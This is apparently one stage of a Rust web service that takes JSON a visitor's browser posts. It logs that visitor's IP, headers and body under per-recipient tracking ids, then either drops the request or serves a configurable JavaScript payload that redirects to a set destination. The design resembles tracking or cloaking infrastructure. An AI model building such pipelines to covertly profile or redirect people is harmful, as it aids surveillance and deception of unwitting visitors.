// Hop 3: receive the collected client object and answer with the closer

use super::{HopResponse, Pipeline};
use crate::capture::RequestCapture;
use crate::error::{Error, Result};
use crate::ids::{gen_uuid, timestamp_ms};
use crate::store::{ResponseKind, Session, SessionKind, SessionRef};
use serde_json::json;

const REPLACE_MARKER: &str = "{{REPLACE}}";

impl Pipeline {
    /// Serve POST /p/{edid}/<anything>.
    ///
    /// The body is validated before any record is touched: a request that
    /// is not a JSON object carrying "p" leaves no trace beyond the drop.
    pub async fn collect_postdata(
        &self,
        edid: &str,
        capture: &RequestCapture,
        socket_addr: Option<&str>,
    ) -> Result<HopResponse> {
        let body = capture
            .body
            .as_ref()
            .and_then(|b| b.as_object())
            .ok_or_else(|| Error::MalformedRequest("body is not a JSON object".to_string()))?;
        if !body.contains_key("p") {
            return Err(Error::MalformedRequest("missing \"p\" member".to_string()));
        }

        let token = self
            .records
            .temp_token(edid)
            .await?
            .ok_or_else(|| Error::InvalidToken(format!("unknown edid {}", edid)))?;
        let record = self
            .records
            .tracking_record(&token.did)
            .await?
            .ok_or_else(|| Error::InvalidToken(format!("stale token {}", edid)))?;

        let sid = gen_uuid();
        let now = timestamp_ms();
        let ip = capture.client_ip(socket_addr);

        self.records
            .append_session_ref(
                &token.eid,
                SessionRef {
                    sid: sid.clone(),
                    timestamp: now,
                },
            )
            .await?;
        self.records
            .put_session(&Session {
                sid,
                eid: token.eid.clone(),
                edid: edid.to_string(),
                cid: token.cid.clone(),
                did: token.did.clone(),
                timestamp: now,
                sessiontype: SessionKind::Postdata,
                raw: json!({
                    "url": capture.url,
                    "ip": ip,
                    "headers": capture.headers_json(),
                    "body": capture.body,
                }),
            })
            .await?;

        tracing::info!(edid, eid = %token.eid, "postdata collected");

        if record.response.kind == ResponseKind::Drop {
            return Ok(HopResponse::drop_response());
        }

        let payload_name = record
            .response
            .payload_2
            .as_deref()
            .unwrap_or(&self.config.default_response_payload);
        let template = self.template_body(payload_name).await?;
        let destination = record
            .response
            .destination_url
            .as_deref()
            .unwrap_or(&record.telex_link);
        let script = template.replacen(REPLACE_MARKER, destination, 1);

        // Cross-origin headers are applied by the router layer.
        Ok(HopResponse::javascript(script))
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn test_replace_marker_substituted_once() {
        let template = "window.location.replace(\"{{REPLACE}}\"); // {{REPLACE}}";
        let out = template.replacen(super::REPLACE_MARKER, "https://example.com", 1);
        assert!(out.starts_with("window.location.replace(\"https://example.com\")"));
        assert!(out.ends_with("// {{REPLACE}}"));
    }
}
